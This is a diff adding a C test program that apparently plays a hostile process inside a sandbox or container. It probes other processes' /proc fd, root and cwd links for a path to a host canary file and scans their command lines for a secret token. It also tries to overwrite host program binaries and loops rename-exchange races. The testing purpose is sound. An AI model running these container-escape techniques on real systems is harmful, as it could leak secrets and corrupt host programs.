@@ -1,0 +1,154 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/* What a hostile program inside does, over and over; a hit is a line of standard output.
+ *
+ *   attack snoop CANARY TOKEN   looks into every other process that it sees: for a way (descriptors, root, working
+ *                               directory) to the host's file CANARY, for TOKEN in command lines, and for a program of the
+ *                               host that can be opened for writing (and is then written to)
+ *   attack swap A B             exchanges two names for ever */
+#include <ctype.h>
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+enum { MAX_FD = 40, MAX_PROGRAMS = 64 };
+
+static int programs[MAX_PROGRAMS];
+static size_t n_programs;
+
+static void look_for_canary(const char *place, const char *canary)
+{
+	char path[512];
+	int dir = open(place, O_RDONLY | O_DIRECTORY | O_NONBLOCK | O_CLOEXEC), fd;
+
+	if (dir < 0)
+		return;
+	(void)snprintf(path, sizeof(path), "../../../../../../../../../..%s", canary);
+	fd = openat(dir, path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0) /* the host's root itself */
+		fd = openat(dir, canary + 1, O_RDONLY | O_CLOEXEC);
+	if (fd >= 0) {
+		printf("escaped: %s leads to the host\n", place);
+		(void)close(fd);
+	}
+	(void)close(dir);
+}
+
+static void look_for_token(const char *pid, const char *token)
+{
+	char path[320], text[4096];
+	size_t len = strlen(token);
+	ssize_t n = -1;
+	int fd;
+
+	(void)snprintf(path, sizeof(path), "/proc/%s/cmdline", pid);
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd >= 0)
+		n = read(fd, text, sizeof(text));
+	if (n > 0 && memmem(text, (size_t)n, token, len))
+		printf("escaped: the command line of %s has the secret\n", pid);
+	if (fd >= 0)
+		(void)close(fd);
+}
+
+static bool is_own(const struct stat *st)
+{
+	static const char *const names[] = { "/bin/busybox", "/bin/attack" };
+	struct stat own;
+
+	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
+		if (stat(names[i], &own) == 0 && own.st_ino == st->st_ino &&
+		    own.st_dev == st->st_dev)
+			return true;
+	return false;
+}
+
+static void keep_program(const char *pid)
+{
+	char path[320];
+	struct stat st;
+	int fd;
+
+	(void)snprintf(path, sizeof(path), "/proc/%s/exe", pid);
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return;
+	if (n_programs == MAX_PROGRAMS || fstat(fd, &st) < 0 || is_own(&st))
+		(void)close(fd);
+	else
+		programs[n_programs++] = fd;
+}
+
+/* Refused while somebody runs it: again and again. */
+static void write_to_programs(void)
+{
+	char path[320];
+
+	for (size_t i = 0; i < n_programs; i++) {
+		int fd;
+
+		(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", programs[i]);
+		fd = open(path, O_WRONLY | O_CLOEXEC);
+		if (fd < 0)
+			continue;
+		if (pwrite(fd, "x", 1, 0) == 1)
+			printf("escaped: wrote to the program of the host\n");
+		(void)close(fd);
+	}
+}
+
+static void look_at(const char *pid, const char *canary, const char *token)
+{
+	static const char *const names[] = { "root", "cwd" };
+	char path[320];
+
+	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
+		(void)snprintf(path, sizeof(path), "/proc/%s/%s", pid, names[i]);
+		look_for_canary(path, canary);
+	}
+	for (int fd = 0; fd < MAX_FD; fd++) {
+		(void)snprintf(path, sizeof(path), "/proc/%s/fd/%d", pid, fd);
+		look_for_canary(path, canary);
+	}
+	look_for_token(pid, token);
+	keep_program(pid);
+}
+
+static void snoop(const char *canary, const char *token)
+{
+	pid_t self = getpid();
+
+	printf("looking\n");
+	for (;;) {
+		DIR *proc = opendir("/proc");
+		struct dirent *entry;
+
+		while (proc && (entry = readdir(proc)))
+			if (isdigit((unsigned char)*entry->d_name) && atoi(entry->d_name) != self)
+				look_at(entry->d_name, canary, token);
+		if (proc)
+			(void)closedir(proc);
+		write_to_programs();
+	}
+}
+
+static void swap(const char *a, const char *b)
+{
+	for (;;)
+		(void)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
+}
+
+int main(int argc, char **argv)
+{
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	if (argc == 4 && strcmp(argv[1], "snoop") == 0)
+		snoop(argv[2], argv[3]);
+	if (argc == 4 && strcmp(argv[1], "swap") == 0)
+		swap(argv[2], argv[3]);
+	return 2;
+}
